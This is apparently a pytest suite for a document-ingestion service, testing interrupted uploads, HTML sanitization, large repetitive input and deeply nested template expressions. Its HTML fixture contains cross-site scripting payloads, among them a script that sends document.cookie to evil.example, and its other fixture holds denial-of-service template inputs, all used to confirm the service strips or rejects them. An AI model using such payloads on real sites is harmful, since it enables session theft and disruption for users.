"""Input that is too large, incomplete or hostile gets the same typed error over every transport, and leaves nothing behind."""

from __future__ import annotations

import io
import json
import socket
from collections.abc import Sequence
from typing import Any

import pytest

from tests.callers import Credential, Registry, Tenant
from tests.instance import Instance, eventually
from tests.system.test_journey import answer
from tests.transports import Json, Ways


def left(instance: Instance, registry: Registry, tenant: Tenant) -> tuple[Any, Sequence[str]]:
    """The number of the tenant's rows in each table, and the files outside the database."""
    files = sorted(str(path) for path in (instance.home / "data").rglob("*") if path.is_file())
    return registry.rows(*tenant.names), files


@pytest.mark.parametrize("chunked", [False, True])
def test_an_upload_that_ends_early_over_http(
    instance: Instance, registry: Registry, tenant: Tenant, ways: Ways, chunked: bool
) -> None:
    headers = tenant.headers(Credential.USER)
    before = left(instance, registry, tenant)
    size = "Transfer-Encoding: chunked" if chunked else "Content-Length: 5000000"
    head = (
        f"PUT /v1/uploads?source_key=cut.md HTTP/1.1\r\nHost: {instance.target}\r\n"
        f"Authorization: {headers['authorization']}\r\n{size}\r\n\r\n"
    )
    part = b"A sentence of it. " * 100_000
    with socket.create_connection(("127.0.0.1", instance.port)) as connection:
        connection.sendall(head.encode())
        connection.sendall(f"{len(part):x}\r\n".encode() + part + b"\r\n" if chunked else part)
    until_no_upload_runs(instance)
    assert left(instance, registry, tenant) == before


def until_no_upload_runs(instance: Instance) -> None:
    """Wait until the server's log shows that the upload that started last has ended."""

    def ended() -> bool:
        lines = [json.loads(line) for line in instance.log("server").splitlines() if line.startswith("{")]
        calls = [one for one in lines if str(one.get("method", "")).endswith("/UploadDocument")]
        return bool(calls) and calls[-1].get("code") != "OK"

    eventually(ended, "the end of the upload")


HOSTILE = """<!doctype html><html><head><title>Recipe<script>alert("title")</script></title>
<script>document.location = "https://evil.example/?" + document.cookie; // zebrastripe</script>
<style>body { background: url("https://evil.example/pixel") } /* okapi */</style></head>
<body onload="alert('quagga')"><h1>Bread</h1>
<p>Sourdough rests <b onclick="steal()">eighteen hours</b> before it is baked.</p>
<img src=x onerror="alert('kudu')"><iframe src="javascript:alert('nyala')"></iframe>
<a href="javascript:alert(1)">The oven is heated to 250 degrees.</a>
<svg><script>alert('bongo')</script></svg><noscript>gnu</noscript><template><p>impala</p></template>
<p>&lt;script&gt;alert("shown as text")&lt;/script&gt;</p></body></html>"""


def test_html_with_scripts_is_read_as_text(ways: Ways, tenant: Tenant) -> None:
    headers = tenant.headers(Credential.USER)
    operation = ways.http.put(
        "/v1/uploads", params={"source_key": "bread.html"}, content=HOSTILE.encode(), headers=headers
    ).json()
    done = ways.call(
        "Operations/WaitOperation", {"name": operation["name"], "timeout": "60s"}, headers
    ).message
    document = done["response"]["document"]
    content = ways.call("KnowledgeService/GetDocumentContent", {"name": document["name"]}, headers).messages
    text = "".join(piece["text"] for piece in content)
    for hidden in (
        "zebrastripe",
        "okapi",
        "quagga",
        "steal",
        "kudu",
        "nyala",
        "bongo",
        "evil.example",
        "onclick",
    ):
        assert hidden not in text, hidden
    # The author's text remains in the quote. Clients must display the quote as plain text.
    assert '<script>alert("shown as text")</script>' in text
    turn = answer(ways, headers, "How long does sourdough rest before it is baked?")
    assert "Sourdough rests eighteen hours before it is baked." in turn["terminalEvent"]["answer"]["text"]
    assert (
        ways.call(
            "KnowledgeService/Search", {"terms": ["zebrastripe"], "mode": "SEARCH_MODE_TEXT"}, headers
        ).message
        == {}
    )


def test_a_word_two_hundred_thousand_times(ways: Ways, tenant: Tenant, instance: Instance) -> None:
    headers = tenant.headers(Credential.USER)
    body = io.BytesIO(b"badger " * 200_000).getvalue()
    operation = ways.http.put(
        "/v1/uploads", params={"source_key": "badgers.txt"}, content=body, headers=headers
    ).json()
    done: Json = {}

    def ended() -> bool:
        nonlocal done
        done = ways.call(
            "Operations/WaitOperation", {"name": operation["name"], "timeout": "20s"}, headers
        ).message
        return bool(done.get("done"))

    # Meanwhile, the server answers other callers.
    ways.call(
        "KnowledgeService/CreateDocument",
        {"metadata": {"sourceKey": "fox.md"}, "text": "A fox lives here."},
        headers,
    )
    assert ways.call("AuthService/GetMe", {}, headers).problem is None
    eventually(ended, lambda: f"the end of {done}")
    assert "error" not in done, done
    assert done["response"]["document"]["passageCount"] > 100
    hits = ways.call("KnowledgeService/Search", {"terms": ["badger"], "topK": 3}, headers).message["hits"]
    assert len(hits) == 3
    deleted = ways.call(
        "KnowledgeService/DeleteDocument", {"name": done["response"]["document"]["name"]}, headers
    )
    assert deleted.problem is None


DEEP = {
    "minus": "{{ " + "-" * 30_000 + "1 }}",
    "plus": "{{ 1" + "+1" * 20_000 + " }}",
    "filters": "{{ 1" + "|abs" * 10_000 + " }}",
    "conditions": "{{ 1 " + "if 1 else 1 " * 4000 + "}}",
    "blocks": "{% if 1 %}" + "{% elif 1 %}" * 4000 + "{% endif %}",
}


def test_templates_that_would_overflow_the_stack_of_the_server(ways: Ways, tenant: Tenant) -> None:
    """Five in succession ended all servers of an instance, for all tenants."""
    headers = tenant.headers(Credential.ADMIN)
    for name, text in DEEP.items():
        mapping = f"""connection = "a"
collection = "a"
queries.a = {{ sql = "SELECT 1 AS a", columns = {{ a = "integer" }} }}
documents.a = {{ query = "a", key = "1", text = "{text}" }}
"""
        source = {"mapping": mapping}
        for method, request in (
            ("PreviewSource", source),
            ("CreateSource", {"sourceId": "a", "source": source}),
        ):
            problem = ways.call(f"AdminService/{method}", request, headers).problem
            assert problem is not None, name
            assert problem["details"][0]["reason"] == "INVALID_FIELD", problem
            assert "documents.a.text: " in problem["message"], problem
            assert " more than " in problem["message"], problem
    assert ways.call("AuthService/GetMe", {}, headers).problem is None
